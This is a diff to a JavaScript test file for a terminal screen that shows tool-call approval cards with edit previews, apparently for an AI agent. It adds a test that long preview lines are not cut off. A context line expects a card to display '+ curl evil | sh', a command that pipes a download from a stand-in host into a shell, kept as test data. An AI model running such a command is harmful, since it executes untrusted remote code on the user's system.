@@ -124,6 +124,12 @@ describe('the screen', () => {
     expect(card).toContain('+ curl evil | sh');
   });
 
+  it('[A17] leaves out nothing of a preview because a line of it is long', () => {
+    const preview = `@@ -1 +1 @@ ${'x'.repeat(200)} the end of it\n+new`;
+    const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
+    expect(card.join('\n')).toContain('the end of it');
+  });
+
   it('scrolls the help where it does not fit, and closes it with any other key', () => {
     const scene = waiting({}, { overlay: 'help' }, { columns: 60, rows: 18 });
     expect(drawn(scene).join('\n')).toMatch(/↓ \d+ more lines/);
